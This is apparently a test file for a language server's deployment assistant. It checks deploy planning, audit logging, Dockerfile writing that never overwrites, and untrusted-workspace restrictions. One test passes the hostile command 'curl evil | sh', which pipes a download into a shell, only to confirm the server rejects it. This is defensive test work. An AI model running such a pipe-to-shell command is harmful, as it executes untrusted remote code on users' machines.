import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { AuditLogRequest, DeployPlanRequest, DeployRequest, DockerfileRequest, SetDeployCommandRequest, WriteDockerfileRequest } from '../../../language-server/protocol';
import { writeTree } from '../helpers/files';
import { LspServer } from '../helpers/lspServer';
import { useTempDir } from '../helpers/tempDir';

describe('language server: the deployment assistant over LSP', function () {
  this.timeout(60000);
  let server: LspServer | null = null;
  afterEach(async () => {
    await server?.stop();
    server = null;
  });
  const tmp = useTempDir('lsp-deploy');
  const root = () => path.join(tmp(), 'projects');
  const api = () => path.join(root(), 'api');

  async function start(trusted = true): Promise<LspServer> {
    await writeTree(api(), {
      'package.json': JSON.stringify({ name: 'api', scripts: { start: 'node server.js' }, dependencies: { express: '^4.19.0' } }),
      'package-lock.json': JSON.stringify({ name: 'api', lockfileVersion: 3, packages: {} }),
      'server.js': "require('express')().listen(3000);\n",
      'fly.toml': 'app = "api-prod"\nprimary_region = "ams"\n',
    });
    server = await LspServer.start({ storePath: path.join(tmp(), 'store', 'optimus.sqlite'), settings: { roots: [root()], containers: { enabled: false } }, trusted });
    await server.until('api listed', () => !!server!.byName('api'));
    return server;
  }

  it('plans the detected deploy, refuses a command that is not the plan, audits the confirmed one', async () => {
    const s = await start();
    const plan = await s.connection.sendRequest(DeployPlanRequest.type, { path: api() });
    assert.equal(plan.command, 'fly deploy');
    assert.equal(plan.source, 'detected');
    assert.deepEqual(plan.targets.map((t) => t.kind), ['fly']);
    await assert.rejects(s.connection.sendRequest(DeployRequest.type, { path: api(), command: 'curl evil | sh' }), /not the "curl evil \| sh" you confirmed/);
    assert.deepEqual(await s.connection.sendRequest(DeployRequest.type, { path: api(), command: 'fly deploy' }), { command: 'fly deploy', cwd: api() });

    const saved = await s.connection.sendRequest(SetDeployCommandRequest.type, { path: api(), command: 'fly deploy --remote-only' });
    assert.deepEqual([saved.command, saved.source], ['fly deploy --remote-only', 'settings']);
    const audit = await s.connection.sendRequest(AuditLogRequest.type, { limit: 5 });
    assert.deepEqual(audit.map((r) => `${r.action}:${r.outcome}`).reverse(), ['deploy:error', 'deploy:ok', 'deploy.set-command:ok']);
  });

  it('proposes a Dockerfile for the stack, writes it once, and never overwrites', async () => {
    const s = await start();
    const proposal = await s.connection.sendRequest(DockerfileRequest.type, { path: api() });
    assert.match(proposal.template ?? '', /^node/);
    assert.match(proposal.dockerfile, /^FROM node:/m);
    assert.match(proposal.dockerignore, /node_modules/);
    const files = { dockerfile: proposal.dockerfile, dockerignore: proposal.dockerignore };
    assert.deepEqual(await s.connection.sendRequest(WriteDockerfileRequest.type, { path: api(), ...files }), { written: ['Dockerfile', '.dockerignore'], kept: [] });
    assert.equal(await readFile(path.join(api(), 'Dockerfile'), 'utf8'), proposal.dockerfile);

    await writeFile(path.join(api(), 'Dockerfile'), 'FROM mine\n');
    await assert.rejects(s.connection.sendRequest(WriteDockerfileRequest.type, { path: api(), ...files }), /exist already; nothing was written/);
    assert.equal(await readFile(path.join(api(), 'Dockerfile'), 'utf8'), 'FROM mine\n', 'the user’s file is untouched');
  });

  it('reads in an untrusted workspace but writes and deploys nothing', async () => {
    const s = await start(false);
    assert.equal((await s.connection.sendRequest(DeployPlanRequest.type, { path: api() })).command, 'fly deploy');
    await assert.rejects(s.connection.sendRequest(DeployRequest.type, { path: api(), command: 'fly deploy' }), /untrusted workspace/);
    const proposal = await s.connection.sendRequest(DockerfileRequest.type, { path: api() });
    await assert.rejects(s.connection.sendRequest(WriteDockerfileRequest.type, { path: api(), dockerfile: proposal.dockerfile, dockerignore: '' }), /untrusted workspace/);
    await assert.rejects(readFile(path.join(api(), 'Dockerfile')), /ENOENT/);
  });
});
